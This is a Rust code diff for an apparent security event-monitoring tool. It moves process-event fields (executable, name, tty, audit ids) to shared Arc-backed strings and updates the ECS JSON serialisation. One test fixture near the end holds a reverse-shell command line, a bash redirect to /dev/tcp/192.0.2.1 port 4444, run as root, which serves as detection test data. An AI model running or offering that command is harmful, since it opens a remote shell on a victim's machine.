@@ -38,7 +38,12 @@ impl Action {
     }
 }
 
-/// User and group ids as ECS keywords (strings), names where they resolved.
+/// Text many events share (ids, names, paths, terminals): cloning it is a reference count, not a
+/// copy, and a process image that leaves the table frees nothing that other images still use.
+pub type Text = Arc<str>;
+
+/// User and group ids as ECS keywords (strings), names where they resolved. Shared (`Arc`) by
+/// every image with the same credentials: a handful of distinct sets cover nearly every exec.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct Ids {
     /// Effective user id (`process.user.id`, `user.id`).
@@ -69,17 +74,17 @@ pub struct ProcessInfo {
     /// Parent pid as the source reported it (`process.parent.pid` when the parent is unknown).
     pub ppid: u32,
     pub entity_id: String,
-    pub executable: String,
+    pub executable: Text,
     /// Basename of `executable` (never argv[0], never comm).
-    pub name: String,
+    pub name: Text,
     pub args: Vec<String>,
     /// `args` joined by single spaces.
     pub command_line: String,
-    pub working_directory: Option<String>,
-    pub ids: Ids,
+    pub working_directory: Option<Text>,
+    pub ids: Arc<Ids>,
     pub interactive: bool,
     /// Terminal name (`pts0`), when there is one.
-    pub tty: Option<String>,
+    pub tty: Option<Text>,
     pub code_signature: Option<CodeSignature>,
     /// Start (exec) time, nanoseconds since the epoch.
     pub start_ns: Option<i64>,
@@ -89,7 +94,7 @@ pub struct ProcessInfo {
 impl ProcessInfo {
     /// Fills `name` and `command_line` from `executable` and `args`.
     pub fn derive_names(&mut self) {
-        self.name = basename(&self.executable).to_owned();
+        self.name = basename(&self.executable).into();
         self.command_line = self.args.join(" ");
     }
 }
@@ -119,9 +124,9 @@ pub enum SourceFacts {
     None,
     /// Linux audit: `auditd.*` and `user.audit.*`.
     Audit {
-        session: Option<String>,
-        audit_user_id: Option<String>,
-        key: Option<String>,
+        session: Option<Text>,
+        audit_user_id: Option<Text>,
+        key: Option<Text>,
         syscall: &'static str,
         /// The exec failed (`success=no`); kept for recon rules, tagged `event.outcome: failure`.
         failed: bool,
@@ -445,10 +450,10 @@ impl Document for ProcessEvent {
                     json!({ "syscall": syscall, "success": if *failed { "no" } else { "yes" } }),
                 );
                 if let Some(k) = key {
-                    root.insert("tags".into(), json!([k]));
+                    root.insert("tags".into(), json!([&**k]));
                 }
                 if let Some(auid) = audit_user_id {
-                    user.insert("audit".into(), json!({ "id": auid }));
+                    user.insert("audit".into(), json!({ "id": &**auid }));
                 }
                 root.insert("auditd".into(), Value::Object(auditd));
             }
@@ -492,13 +497,13 @@ fn s(v: &str) -> Values<'_> {
     Values::One(Scalar::Str(v))
 }
 
-fn opt(v: &Option<String>) -> Values<'_> {
-    v.as_deref().map_or(Values::Missing, s)
+fn opt<T: AsRef<str>>(v: &Option<T>) -> Values<'_> {
+    v.as_ref().map_or(Values::Missing, |v| s(v.as_ref()))
 }
 
-fn insert_opt(m: &mut Map<String, Value>, k: &str, v: &Option<String>) {
+fn insert_opt<T: AsRef<str>>(m: &mut Map<String, Value>, k: &str, v: &Option<T>) {
     if let Some(v) = v {
-        m.insert(k.into(), v.clone().into());
+        m.insert(k.into(), v.as_ref().into());
     }
 }
 
@@ -506,8 +511,8 @@ fn process_json(p: &ProcessInfo) -> Map<String, Value> {
     let mut m = Map::new();
     m.insert("pid".into(), p.pid.into());
     m.insert("entity_id".into(), p.entity_id.clone().into());
-    m.insert("executable".into(), p.executable.clone().into());
-    m.insert("name".into(), p.name.clone().into());
+    m.insert("executable".into(), (&*p.executable).into());
+    m.insert("name".into(), (&*p.name).into());
     m.insert("args".into(), p.args.clone().into());
     m.insert("args_count".into(), p.args.len().into());
     m.insert("command_line".into(), p.command_line.clone().into());
@@ -570,11 +575,11 @@ mod tests {
                 "-c".into(),
                 "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1".into(),
             ],
-            ids: Ids {
+            ids: Arc::new(Ids {
                 user_id: "0".into(),
                 user_name: Some("root".into()),
                 ..Default::default()
-            },
+            }),
             ..Default::default()
         };
         p.derive_names();
